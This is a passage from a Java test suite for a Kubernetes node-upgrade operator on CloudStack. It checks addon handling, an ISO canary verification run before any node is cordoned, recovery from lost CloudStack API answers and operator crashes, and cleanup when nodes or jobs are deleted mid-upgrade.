        jobs.log = scriptLogEnding("cks-addon network.yaml failed kubectl apply exited 1 after 12 attempts", "cks-addon dashboard.yaml applied");
        create(UpgradeExecutor.Type.CloudStackIso, spec -> { });

        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).as(describe()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        assertThat(node(CONTROL).getPhase()).isEqualTo(Phase.Succeeded);
        assertThat(node(W2).getPhase()).isEqualTo(Phase.Succeeded);
        assertThat(node(CONTROL).getAddons()).isEqualTo("network.yaml failed (kubectl apply exited 1 after 12 attempts); dashboard.yaml applied");
        Condition addons = condition(Conditions.ADDONS_APPLIED);
        assertThat(addons.getStatus()).isEqualTo("False");
        assertThat(addons.getReason()).isEqualTo("AddonApplyFailed");
        assertThat(addons.getMessage()).contains("Apply network.yaml of the target version's binaries ISO by hand")
                .contains("kubectl --kubeconfig /etc/kubernetes/admin.conf apply -f <file>");
        assertThat(events.onNode(CONTROL)).anySatisfy(event -> {
            assertThat(event.type()).isEqualTo("Warning");
            assertThat(event.reason()).isEqualTo("AddonApplyFailed");
        });
        assertThat(jobs.created).as("no upgrade Job is made again for an addon").filteredOn(job -> !job.startsWith("iso-canary-")).hasSize(3);
    }

    /**
     * Shape: 1 control-plane node + 2 workers, CloudStackIso, a cluster whose CNI is not the ISO's (applyAddons false).
     * Other actor: the node script, told so by its fifth argument, which leaves the manifests alone and says so.
     */
    @Test
    void applyAddonsFalseTellsTheScriptAndRecordsTheAddonsAsSkipped() {
        jobs.log = scriptLogEnding("cks-addon network.yaml skipped applyAddons is false", "cks-addon dashboard.yaml skipped applyAddons is false");
        create(UpgradeExecutor.Type.CloudStackIso, spec -> {
            spec.getExecutor().setCloudStackIso(new UpgradeExecutor.CloudStackIso());
            spec.getExecutor().getCloudStackIso().setApplyAddons(false);
        });

        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).as(describe()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        List<String> command = jobs.jobOf(CONTROL).getSpec().getTemplate().getSpec().getContainers().get(0).getCommand();
        assertThat(command.subList(command.size() - 5, command.size())).containsExactly("1.35.4", "true", "false", "false", "false");
        assertThat(node(CONTROL).getAddons()).isEqualTo("network.yaml skipped (applyAddons is false); dashboard.yaml skipped (applyAddons is false)");
        assertThat(condition(Conditions.ADDONS_APPLIED).getReason()).isEqualTo("AddonsSkipped");
    }

    /**
     * Shape: 1 control-plane node + 2 workers. Other actor: a Script executor's own script, which may print anything:
     * only the operator's node script applies addons, so its log is not read on success and no condition is set.
     */
    @Test
    void aScriptUpgradeRecordsNoAddons() {
        jobs.log = scriptLogEnding("cks-addon network.yaml failed lookalike");
        create(UpgradeExecutor.Type.Script, spec -> { });

        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).as(describe()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        assertThat(node(CONTROL).getAddons()).isNull();
        assertThat(Conditions.find(status.getConditions(), Conditions.ADDONS_APPLIED)).isEmpty();
        assertThat(jobs.logsRead).isEmpty();
    }

    /**
     * Shape: one CKS cluster (a control-plane node, two workers), CloudStackIso. Actor: whoever registered the target's
     * binaries ISO in CloudStack without etcd's image archive. Before the canary, the first node was cordoned and
     * drained, and its upgrade Job failed on the ISO. Now the ISO is refused before any node is touched, and a retry
     * once the ISO is fixed checks it again and upgrades.
     */
    @Test
    void anIsoThatFailsTheCanaryRefusesTheUpgradeBeforeAnyCordonAndARetryChecksAgain() {
        jobs.canaryLog = BAD_ISO_LOG;
        create(UpgradeExecutor.Type.CloudStackIso, spec -> { });

        NodeUpgradeStatus refused = reconcileToEnd();

        assertThat(refused.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Failed);
        assertThat(condition(Conditions.ACCEPTED)).satisfies(c -> {
            assertThat(c.getStatus()).isEqualTo("False");
            assertThat(c.getReason()).isEqualTo(IsoCanary.ISO_REFUSED);
            assertThat(c.getMessage()).contains("failed the ISO canary on node " + CONTROL).contains("images: no archive for docker/etcd:3.6.5-0.tar")
                    .contains("Nothing was cordoned").contains(NodeAnnotations.RETRY);
        });
        assertThat(condition(Conditions.ISO_VERIFIED).getStatus()).isEqualTo("False");
        assertThat(refused.getIsoCanary().getProblems()).containsExactly("images: no archive for docker/etcd:3.6.5-0.tar");
        assertThat(refused.getIsoCanary().getChecked()).containsExactly("kubeadm: k8s/kubeadm is v1.35.4");
        assertThat(nodes.calls).as("no node locked or cordoned").noneMatch(c -> c.startsWith("cordon") || c.startsWith("lock"));
        assertThat(refused.getNodes()).allSatisfy(n -> assertThat(n.getPhase()).isEqualTo(Phase.Pending));
        assertThat(simulator.calls("attachIso")).as("the canary's attach").hasSize(1);
        assertThat(simulator.calls("detachIso")).as("the canary's detach").hasSize(1);
        assertThat(simulator.clusterVms(cluster.id())).allSatisfy(vm -> assertThat(vm.isoId()).isNull());
        assertThat(jobs.nodesWithJobs()).as("no upgrade Job").isEmpty();

        jobs.canaryLog = new FakeUpgradeJobs().canaryLog;
        upgrade.getMetadata().getAnnotations().put(NodeAnnotations.RETRY, "1");
        NodeUpgradeStatus retried = reconcileToEnd();

        assertThat(retried.getPhase()).as(describe()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        assertThat(jobs.canaryJobs()).as("checked again after the retry, by a Job of its own").hasSize(2);
        assertThat(retried.getIsoCanary().getVerdict()).isEqualTo(IsoCanaryStatus.Verdict.Passed);
        assertThat(condition(Conditions.ISO_VERIFIED).getStatus()).isEqualTo("True");
    }

    /**
     * Shape: one CKS cluster without CoreDNS (its kube-system runs no k8s-app=kube-dns pod), CloudStackIso. Actor: kubeadm,
     * which upgrades no addon the cluster was made without: the canary does not require CoreDNS's archive.
     */
    @Test
    void theCanaryRequiresNoImageOfAnAddonTheClusterDoesNotRun() {
        jobs.addons.remove("kube-dns");
        create(UpgradeExecutor.Type.CloudStackIso, workerOnly(W1));

        assertThat(reconcileToEnd().getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);

        assertThat(jobs.canaryJobs()).singleElement().satisfies(job -> {
            assertThat(job.getSpec().getTemplate().getSpec().getContainers().get(0).getCommand()).endsWith("1.35.4", "--without", "coredns");
            assertThat(job.getMetadata().getLabels()).containsEntry(UpgradeJob.LABEL_ISO_CANARY, W1).doesNotContainKey(UpgradeJob.LABEL_NODE);
            assertThat(job.getMetadata().getName()).startsWith("iso-canary-" + W1 + "-");
        });
    }

    /** Shape: CloudStackIso, one worker. Actor: the node, killing the canary's script before it judged the ISO: no verdict is no pass. */
    @Test
    void aCanaryJobThatEndsWithoutAVerdictRefusesTheUpgrade() {
        jobs.canaryLog = "iso-canary: ok iso: /dev/sr0 holds k8s/\nKilled\n";
        create(UpgradeExecutor.Type.CloudStackIso, workerOnly(W1));

        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Failed);
        assertThat(condition(Conditions.ACCEPTED).getMessage()).contains("the Job ended without a verdict, its log ends: Killed")
                .contains("Nothing was cordoned");
        assertThat(nodes.calls).noneMatch(c -> c.startsWith("cordon"));
        assertThat(simulator.vm(cluster.vmIds().get(1)).isoId()).isNull();
    }

    /**
     * Shape: a project cluster whose keys CloudStack restricts to the Kubernetes Service User role (its own
     * cloudstack-secret, given to the operator as they are): it may scale the cluster but not attach an ISO.
     */
    @Test
    void cloudStackIsoWithAProjectClustersOwnKeysIsRefusedBeforeAnyCordonNamingWhatTheyMayNotCall() {
        simulator.playProjectKubernetesServiceRole(simulator.defaultAccount());
        create(UpgradeExecutor.Type.CloudStackIso, spec -> { });

        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Failed);
        assertThat(node(CONTROL).getError()).contains("may not call").contains("attachIso (attaches the binaries ISO")
                .contains("detachIso").contains("listKubernetesSupportedVersions").doesNotContain("listVirtualMachines (")
                .contains("Nothing was cordoned").contains("cloudstack.secretNamespace and cloudstack.secretName");
        assertThat(nodes.calls).noneMatch(call -> call.startsWith("cordon"));
        assertThat(simulator.calls("attachIso")).as("the preflight's probe only").allSatisfy(call -> assertThat(call.params()).isEmpty());
        assertThat(simulator.jobCommands()).isEmpty();
        assertThat(jobs.nodesWithJobs()).isEmpty();
    }

    @Test
    void cloudStackIsoSaysWhenCloudStackStillRecordsTheNodesOldVersion() {
        // CloudStack's per-node record (4.20+) is rewritten only by its own upgradeKubernetesCluster.
        simulator.setRecordedNodeVersion(cluster.vmIds().get(1), FROM.substring(1));
        create(UpgradeExecutor.Type.CloudStackIso, workerOnly(W1));

        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        assertThat(status.getConditions()).filteredOn(c -> c.getType().equals("CloudStackRecordCurrent")).singleElement().satisfies(c -> {
            assertThat(c.getStatus()).isEqualTo("False");
            assertThat(c.getReason()).isEqualTo("VersionRecordStale");
            assertThat(c.getMessage()).startsWith("CloudStack still records " + FROM.substring(1) + " for node " + W1 + ", not " + TARGET);
        });
        assertThat(status.getMessage()).as("the final message says so too").contains("CloudStack still records");
    }

    @Test
    void aScriptUpgradeSaysWhenCloudStackStillRecordsTheNodesOldVersionAndWhenItMatches() {
        simulator.setRecordedNodeVersion(cluster.vmIds().get(1), FROM.substring(1));
        create(UpgradeExecutor.Type.Script, workerOnly(W1));

        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        assertThat(condition(Conditions.CLOUDSTACK_RECORD_CURRENT)).satisfies(c -> {
            assertThat(c.getStatus()).isEqualTo("False");
            assertThat(c.getReason()).isEqualTo("VersionRecordStale");
            assertThat(c.getMessage()).startsWith("CloudStack still records " + FROM.substring(1) + " for node " + W1 + ", not " + TARGET);
        });
        assertThat(status.getMessage()).contains("CloudStack still records");

        simulator.setRecordedNodeVersion(cluster.vmIds().get(2), TARGET.substring(1));
        create(UpgradeExecutor.Type.Script, workerOnly(W2));
        reconcileToEnd();
        assertThat(condition(Conditions.CLOUDSTACK_RECORD_CURRENT).getStatus()).isEqualTo("True");
    }

    @Test
    void aScriptUpgradeWithoutCloudStackKeysReportsNoRecord() {
        OperationRecorder recorder = new OperationRecorder(NodeUpgradeReconciler.KIND, events, new OperationMetrics(registry));
        CloudStackAccess noKeys = new CloudStackAccess(() -> {
            throw new CloudStackAccess.Unavailable("Secret kube-system/cloudstack-secret with the CloudStack API URL and keys does not exist");
        }, Optional.empty());
        reconciler = new NodeUpgradeReconciler(clock, settings, noKeys, new OperationPorts(nodes, recorder, store), jobs,
                () -> List.of(nodes.get(CONTROL).getStatus().getNodeInfo().getKubeletVersion()));
        create(UpgradeExecutor.Type.Script, workerOnly(W1));
        upgrade.setStatus(new NodeUpgradeStatus());
        // A condition from an earlier check (keys since removed) must not linger.
        Conditions.set(upgrade.getStatus().getConditions(), Conditions.CLOUDSTACK_RECORD_CURRENT, false, "VersionRecordStale", "old", 1L, clock.instant());

        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).as(status.getMessage()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        assertThat(status.getConditions()).noneMatch(c -> c.getType().equals(Conditions.CLOUDSTACK_RECORD_CURRENT));
    }

    @Test
    void cloudStackIsoDetachesTheIsoAlsoWhenTheJobFailsBeforeGivingTheNodeUp() {
        failingJobs.add(W1);
        simulator.planJob("detachIso", JobOutcome.succeedsAfterPolls(3));
        create(UpgradeExecutor.Type.CloudStackIso, workerOnly(W1));

        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Failed);
        assertThat(simulator.calls("detachIso")).as("the canary's, then the upgrade's").hasSize(2);
        assertThat(simulator.vm(cluster.vmIds().get(1)).isoId()).isNull();
        assertThat(nodes.calls.indexOf("release " + W1 + " uncordon")).as("given back after the ISO is gone").isPositive();
        assertThat(events.reasons()).containsSubsequence("IsoDetached", "Failed");
    }

    @Test
    void cloudStackIsoRestartedAfterRecordingTheAttachButBeforeItsJobIdAttachesOnlyOnce() {
        create(UpgradeExecutor.Type.CloudStackIso, workerOnly(W1));
        reconcileUntil("attach asked for", s -> s.getNodes().stream().anyMatch(n -> n.getIsoJobId() != null));
        String intentOnly = store.persisted.stream().filter(json -> json.contains("\"isoState\":\"Attaching\"") && !json.contains("isoJobId"))
                .reduce((a, b) -> b).orElseThrow();
        // CloudStack finishes the attach while the operator is down.
        client.queryAsyncJob(node(W1).getIsoJobId());

        upgrade.setStatus(Serialization.unmarshal(intentOnly, NodeUpgradeStatus.class));
        restartOperator();
        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        assertThat(simulator.calls("attachIso")).as("the canary's and the upgrade's").hasSize(2);
        assertThat(simulator.calls("detachIso")).as("the canary's and the upgrade's").hasSize(2);
    }

    @Test
    void cloudStackIsoWhoseAttachAnswerIsLostWaitsForThatJobInsteadOfAttachingAgain() {
        // CloudStack took the attach and runs it for half a minute; the answer with its job id never arrived.
        simulator.planJob("attachIso", new JobOutcome.SucceedsAfter(java.time.Duration.ofSeconds(30)));
        simulator.injectFault("attachIso", dev.cks.nodeops.cloudstack.simulator.Fault.answerLost());
        create(UpgradeExecutor.Type.CloudStackIso, workerOnly(W1));

        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        assertThat(simulator.calls("attachIso")).as("the canary's lost attach is waited for, not sent again; then the upgrade's").hasSize(2);
        assertThat(simulator.calls("listAsyncJobs")).isNotEmpty();
        assertThat(simulator.calls("detachIso")).as("the canary's and the upgrade's").hasSize(2);
        assertThat(simulator.vm(cluster.vmIds().get(1)).isoId()).isNull();
    }

    @Test
    void cloudStackIsoWhoseDetachAnswerIsLostDetachesOnce() {
        simulator.planJob("detachIso", new JobOutcome.SucceedsAfter(java.time.Duration.ofSeconds(30)));
        simulator.injectFault("detachIso", dev.cks.nodeops.cloudstack.simulator.Fault.answerLost());
        create(UpgradeExecutor.Type.CloudStackIso, workerOnly(W1));

        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        assertThat(simulator.calls("attachIso")).as("the canary's and the upgrade's").hasSize(2);
        assertThat(simulator.calls("detachIso")).as("the canary's lost detach is found done, not sent again; then the upgrade's").hasSize(2);
        assertThat(simulator.vm(cluster.vmIds().get(1)).isoId()).isNull();
        assertThat(node(W1).getIsoState()).isEqualTo(IsoState.Detached);
    }

    @Test
    void cloudStackIsoAwayLongerThanCloudStackKeepsJobsReadsTheVmInsteadOfAttachingAgain() {
        simulator.planJob("attachIso", JobOutcome.runsAtOnce());
        java.util.function.Consumer<NodeUpgradeSpec> w1 = workerOnly(W1);
        create(UpgradeExecutor.Type.CloudStackIso, spec -> {
            w1.accept(spec);
            spec.setTimeoutSeconds((int) java.time.Duration.ofDays(3).toSeconds());
        });
        reconcileUntil("attach asked", s -> s.getNodes().get(0).getIsoJobId() != null);
        // The operator is away for two days; CloudStack ran the attach and expunged the job's record.
        clock.advance(java.time.Duration.ofDays(2));

        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).as(describe()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        assertThat(simulator.calls("attachIso")).as("the canary's and the upgrade's, each once").hasSize(2);
        assertThat(simulator.calls("detachIso")).as("the canary's and the upgrade's").hasSize(2);
        assertThat(simulator.vm(cluster.vmIds().get(1)).isoId()).isNull();
    }

    @Test
    void cloudStackIsoWaitsWhileTheSecretIsMissingWithoutCordoning() {
        cloudStack.secretMissing = true;
        create(UpgradeExecutor.Type.CloudStackIso, workerOnly(W1));

        reconcileUntil("waiting", s -> s.getPhase() == NodeUpgradeStatus.Phase.Waiting);
        assertThat(condition(Conditions.WAITING).getMessage()).contains("cloudstack-secret does not exist");
        assertThat(nodes.calls).noneMatch(c -> c.startsWith("cordon"));

        cloudStack.secretMissing = false;
        assertThat(reconcileToEnd().getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
    }

    @Test
    void cloudStackIsoRefusesANodeWithoutAVmBeforeCordoningIt() {
        nodes.add(TestNodes.node("prod-node-unmapped").version(FROM).build());
        create(UpgradeExecutor.Type.CloudStackIso, workerOnly("prod-node-unmapped"));

        reconcileToEnd();

        assertThat(condition(Conditions.FAILED).getMessage()).contains("not in the VM map").contains("Script executor");
        assertThat(nodes.calls).noneMatch(c -> c.startsWith("cordon"));
        assertThat(simulator.calls("attachIso")).isEmpty();
    }

    @Test
    void deletingItMidDrainUncordonsButMidJobOnlyReleases() {
        for (int i = 0; i < 20; i++) {
            nodes.thenDrain(CONTROL, (state, now) -> moving(state, now.plusSeconds(1), 2));
        }
        create(UpgradeExecutor.Type.Script, spec -> { });
        reconcileUntil("draining", s -> s.getNodes().stream().anyMatch(n -> n.getPhase() == Phase.Draining));
        reconciler.cleanup(upgrade, null);
        assertThat(nodes.isCordoned(CONTROL)).isFalse();
        assertThat(nodes.ours(CONTROL)).isEmpty();

        create(UpgradeExecutor.Type.Script, spec -> { });
        jobsFinish = false;
        reconcileUntil("upgrading", s -> s.getNodes().stream().anyMatch(n -> n.getPhase() == Phase.Upgrading && n.getJobName() != null));
        reconciler.cleanup(upgrade, null);
        assertThat(nodes.isCordoned(CONTROL)).as("kubeadm may be restarting the kubelet").isTrue();
        assertThat(nodes.get(CONTROL).getMetadata().getAnnotations()).doesNotContainKey(NodeAnnotations.LOCK);
        assertThat(events.reasons()).contains("LeftCordoned");
        assertThat(jobs.jobOf(CONTROL).getMetadata().getOwnerReferences()).as("orphaned: the garbage collector must not kill kubeadm half-way").isEmpty();
        assertThat(events.all()).filteredOn(e -> e.reason().equals("LeftCordoned")).last().satisfies(e -> assertThat(e.message()).contains("runs to its end"));
    }

    /**
     * Shape: one CKS cluster, CloudStackIso. Actor: CloudStack, unreachable right after the drain. Before,
     * the node sat cordoned in Upgrading past the deadline for as long as CloudStack stayed away.
     */
    @Test
    void cloudStackUnreachableRightAfterTheDrainGivesTheNodeBackAtTheDeadline() {
        create(UpgradeExecutor.Type.CloudStackIso, workerOnly(W1).andThen(spec -> spec.setTimeoutSeconds(600)));
        reconcileUntil("drained", s -> node(W1).getPhase() == Phase.Upgrading);
        cloudStack.close();

        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).isEqualTo(NodeUpgradeStatus.Phase.Failed);
        assertThat(node(W1).getError()).contains("deadline");
        assertThat(nodes.isCordoned(W1)).as("nothing was asked of the node or of CloudStack: given back").isFalse();
        assertThat(nodes.ours(W1)).isEmpty();
        assertThat(jobs.onNode(settings.namespace(), W1)).as("no upgrade Job was made").isEmpty();
    }

    /**
     * Shape: CloudStackIso. Actor: a person (or a GitOps prune) deleting the NodeUpgrade while kubeadm runs.
     * Before, the ISO stayed attached to the VM for good.
     */
    @Test
    void aCloudStackIsoUpgradeDeletedWhileItsJobRunsDetachesTheIsoOnceTheJobHasEnded() {
        create(UpgradeExecutor.Type.CloudStackIso, workerOnly(W1));
        jobsFinish = false;
        reconcileUntil("job running", s -> node(W1).getJobName() != null);
        String vm = node(W1).getVmId();
        assertThat(simulator.vm(vm).isoId()).isNotNull();

        assertThat(reconciler.cleanup(upgrade, null).isRemoveFinalizer()).as("kept while kubeadm reads the ISO").isFalse();
        assertThat(simulator.calls("detachIso")).as("the canary's only").hasSize(1);
        assertThat(events.reasons()).contains("IsoDetachAfterJob");

        jobs.finish(W1, true);
        boolean removed = false;
        for (int i = 0; i < 20 && !removed; i++) {
            removed = reconciler.cleanup(upgrade, null).isRemoveFinalizer();
            clock.advance(java.time.Duration.ofSeconds(5));
        }
        assertThat(removed).isTrue();
        assertThat(simulator.calls("detachIso")).as("the canary's, then the upgrade's").hasSize(2);
        assertThat(simulator.vm(vm).isoId()).isNull();
        assertThat(nodes.isCordoned(W1)).as("released, left cordoned as documented").isTrue();
    }

    // ---- The canary's node given up, the canary's Job deleted --------------------------------------------------

    /** Both workers to upgrade (the control plane is at the target already), the canary held running on the first. */
    private void canaryRunningOnW1(java.util.function.Consumer<NodeUpgradeSpec> tweak) {
        nodes.get(CONTROL).getStatus().getNodeInfo().setKubeletVersion(TARGET);
        List.of(W1, W2).forEach(worker -> nodes.get(worker).getMetadata().getLabels().put("pool", "blue"));
        canariesFinish = false;
        create(UpgradeExecutor.Type.CloudStackIso, spec -> {
            spec.setSelector(new LabelSelector(null, Map.of("pool", "blue")));
            tweak.accept(spec);
        });
        reconcileUntil("the canary's Job on " + W1, s -> s.getIsoCanary() != null && W1.equals(s.getIsoCanary().getNode())
                && s.getIsoCanary().getJobName() != null);
    }

    private String vmOf(String node) {
        return simulator.clusterVms(cluster.id()).stream().filter(vm -> vm.name().equals(node)).findFirst().orElseThrow().id();
    }

    private List<String> isoCalls(String command) {
        return simulator.calls(command).stream().map(call -> call.param("virtualmachineid")).toList();
    }

    enum CanaryNodeGivenUp { DELETED, OPTS_OUT, NO_LONGER_SELECTED }

    /**
     * Shape: one CKS cluster, the control plane at the target, two workers to upgrade, CloudStackIso. Actor: whoever takes
     * the canary's node out of the upgrade while its canary runs: a person or CKS scaling the cluster in (kubectl delete
     * node), a person annotating it nodeops.cks.dev/exclude, or a person relabelling it out of the selector. Before, the
     * canary stayed bound to that node: the other worker waited for a verdict that never came, with the ISO left on the
     * first worker's VM.
     */
    @ParameterizedTest
    @org.junit.jupiter.params.provider.EnumSource(CanaryNodeGivenUp.class)
    void theCanarysNodeGivenUpMidCanaryDetachesItsIsoAndTheCanaryStartsAgainOnTheNextNode(CanaryNodeGivenUp how) {
        canaryRunningOnW1(spec -> { });
        switch (how) {
            case DELETED -> nodes.delete(W1);
            case OPTS_OUT -> nodes.get(W1).getMetadata().getAnnotations().put(NodeAnnotations.EXCLUDE, "disk replacement");
            case NO_LONGER_SELECTED -> nodes.get(W1).getMetadata().getLabels().remove("pool");
        }
        canariesFinish = true;

        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).as(describe()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        assertThat(node(W1).getPhase()).isEqualTo(Phase.Skipped);
        assertThat(node(W2).getPhase()).isEqualTo(Phase.Succeeded);
        assertThat(status.getIsoCanary().getNode()).isEqualTo(W2);
        assertThat(status.getIsoCanary().getVerdict()).isEqualTo(IsoCanaryStatus.Verdict.Passed);
        assertThat(isoCalls("attachIso")).as("W1's canary, W2's canary, W2's upgrade").containsExactly(vmOf(W1), vmOf(W2), vmOf(W2));
        assertThat(isoCalls("detachIso")).as("each attach detached once").containsExactly(vmOf(W1), vmOf(W2), vmOf(W2));
        assertThat(simulator.clusterVms(cluster.id())).allSatisfy(vm -> assertThat(vm.isoId()).isNull());
        assertThat(jobs.canaryJobs()).as("W1's canary Job deleted, W2's left").singleElement()
                .satisfies(job -> assertThat(job.getMetadata().getLabels()).containsEntry(UpgradeJob.LABEL_ISO_CANARY, W2));
        assertThat(nodes.calls).noneMatch(c -> c.equals("cordon " + W1) || c.startsWith("lock " + W1));
        assertThat(events.all()).filteredOn(e -> e.reason().equals("IsoCanaryMoved")).singleElement().satisfies(e -> {
            assertThat(e.type()).isEqualTo("Warning");
            assertThat(e.message()).contains(W1).contains(W2);
        });
    }

    /**
     * Shape: one CKS cluster, one worker to upgrade, CloudStackIso. Actor: CKS scaling the cluster in (or a person) deleting
     * the worker's Node while the canary runs on it: no node is left to upgrade, so the NodeUpgrade ends, its ISO off the
     * VM first. Before, it ended with the ISO left attached to the VM.
     */
    @Test
    void theOnlyNodeDeletedMidCanaryEndsTheUpgradeWithItsIsoDetached() {
        canariesFinish = false;
        create(UpgradeExecutor.Type.CloudStackIso, workerOnly(W1));
        reconcileUntil("the canary's Job", s -> s.getIsoCanary() != null && s.getIsoCanary().getJobName() != null);
        nodes.delete(W1);

        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).as(describe()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        assertThat(node(W1).getPhase()).isEqualTo(Phase.Skipped);
        assertThat(isoCalls("attachIso")).containsExactly(vmOf(W1));
        assertThat(isoCalls("detachIso")).containsExactly(vmOf(W1));
        assertThat(simulator.vm(vmOf(W1)).isoId()).isNull();
        assertThat(jobs.canaryJobs()).isEmpty();
    }

    /**
     * Shape: one CKS cluster, one worker to upgrade, CloudStackIso. Actor: a person running kubectl delete job on the
     * canary's Job while it runs. It only reads, so it is made once more under a name of its own, with a Warning that says
     * so; the ISO stays on the VM meanwhile and comes off once. Before, it was made again under the same name each time,
     * without a word.
     */
    @Test
    void aCanaryJobDeletedWhileItRunsIsMadeOnceMoreAndTheEventSaysSo() {
        canariesFinish = false;
        create(UpgradeExecutor.Type.CloudStackIso, workerOnly(W1));
        reconcileUntil("the canary's Job", s -> s.getIsoCanary() != null && s.getIsoCanary().getJobName() != null);
        String first = upgrade.getStatus().getIsoCanary().getJobName();

        jobs.jobs.remove(first);
        reconcileUntil("a second canary Job", s -> jobs.created.stream().filter(name -> name.startsWith("iso-canary-")).count() == 2);
        canariesFinish = true;
        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).as(describe()).isEqualTo(NodeUpgradeStatus.Phase.Succeeded);
        assertThat(jobs.canaryJobs()).singleElement().satisfies(job -> assertThat(job.getMetadata().getName()).isNotEqualTo(first));
        assertThat(status.getIsoCanary().getJobName()).isNotEqualTo(first);
        assertThat(status.getIsoCanary().getVerdict()).isEqualTo(IsoCanaryStatus.Verdict.Passed);
        assertThat(events.all()).filteredOn(e -> e.reason().equals("IsoCanaryJobDeleted")).singleElement().satisfies(e -> {
            assertThat(e.type()).isEqualTo("Warning");
            assertThat(e.message()).contains(first).contains("was deleted").contains("once more");
        });
        assertThat(simulator.calls("attachIso")).as("the canary's and the node's").hasSize(2);
        assertThat(simulator.calls("detachIso")).as("the canary's and the node's").hasSize(2);
    }

    /**
     * Shape: one CKS cluster, one worker to upgrade, CloudStackIso. Actor: a GitOps tool pruning the canary's Job with
     * foreground deletion (the Job stays, deletionTimestamp set, until its pods are gone), then its second Job too. The
     * verdict is unknown: the ISO is not used, it comes off the VM once, the node is given back untouched, and the
     * NodeUpgrade fails saying what happened and how to retry. Before, the Job was made again under the same name for as
     * long as the tool deleted it.
     */
    @Test
    void aCanaryJobDeletedTwiceFailsTheUpgradeWithNothingCordonedAndTheIsoDetachedOnce() {
        canariesFinish = false;
        create(UpgradeExecutor.Type.CloudStackIso, workerOnly(W1));
        reconcileUntil("the canary's Job", s -> s.getIsoCanary() != null && s.getIsoCanary().getJobName() != null);
        jobs.jobs.get(upgrade.getStatus().getIsoCanary().getJobName()).getMetadata().setDeletionTimestamp("2026-11-30T12:00:30Z");
        reconcileUntil("a second canary Job", s -> jobs.created.stream().filter(name -> name.startsWith("iso-canary-")).distinct().count() == 2);
        String second = jobs.created.get(jobs.created.size() - 1);
        jobs.jobs.remove(second);

        NodeUpgradeStatus status = reconcileToEnd();

        assertThat(status.getPhase()).as(describe()).isEqualTo(NodeUpgradeStatus.Phase.Failed);
        assertThat(jobs.created.stream().filter(name -> name.startsWith("iso-canary-"))).as("made once more, not again").hasSize(2);
        assertThat(node(W1).getError()).contains(second).contains("deleted").contains("verdict is unknown").contains(NodeAnnotations.RETRY);
        assertThat(condition(Conditions.ISO_VERIFIED).getStatus()).isEqualTo("Unknown");
        assertThat(simulator.calls("attachIso")).hasSize(1);
        assertThat(simulator.calls("detachIso")).hasSize(1);
        assertThat(simulator.vm(vmOf(W1)).isoId()).isNull();
        assertThat(nodes.calls).noneMatch(c -> c.startsWith("cordon") || c.startsWith("lock"));
        assertThat(events.all()).filteredOn(e -> e.reason().equals("IsoCanaryJobDeleted")).hasSize(2);
    }

    static Stream<Arguments> canaryMoveKillPoints() {
        return Stream.of(
                Arguments.of(KillPoint.NODEUPGRADE_CANARY_ISO_DETACH_ANSWERED, 1),
                Arguments.of(KillPoint.NODEUPGRADE_CANARY_ISO_DETACHED, 1),
                Arguments.of(KillPoint.NODEUPGRADE_CANARY_JOB_DELETED, 1),
                Arguments.of(KillPoint.NODEUPGRADE_CANARY_JOB_DELETED, 2),
                Arguments.of(KillPoint.NODEUPGRADE_CANARY_ISO_INTENT, 1),
                Arguments.of(KillPoint.NODEUPGRADE_CANARY_ISO_ATTACH_ANSWERED, 1),
                Arguments.of(KillPoint.NODEUPGRADE_CANARY_ISO_ATTACHED, 1),
                Arguments.of(KillPoint.NODEUPGRADE_CANARY_JOB_CREATED, 1),
                Arguments.of(KillPoint.NODEUPGRADE_CANARY_ISO_DETACH_ANSWERED, 2));
    }

    /**
     * Shape and actor as {@link #theCanarysNodeGivenUpMidCanaryDetachesItsIsoAndTheCanaryStartsAgainOnTheNextNode}, the
     * Node deleted; the operator halts right after a side effect of the canary's move (the first node's detach, the
     * second node's attach, its Job, its detach) and a new one starts from the status the API server holds. Each VM's ISO
     * is attached and detached once, each Job made once, and the upgrade ends as it would have.
     */
    @ParameterizedTest(name = "{0} #{1}")
    @MethodSource("canaryMoveKillPoints")
    @ResourceLock(Crash.ARMED_POINT)
    void killedWhileTheCanaryMovesARestartedOperatorMovesItOnce(KillPoint point, int nth) throws Exception {
        simulator.setDefaultJobOutcome(new JobOutcome.SucceedsAfter(java.time.Duration.ofSeconds(4)));
        canaryRunningOnW1(spec -> { });
        nodes.delete(W1);
        canariesFinish = true;

        try (Crash crash = Crash.at(point, nth)) {
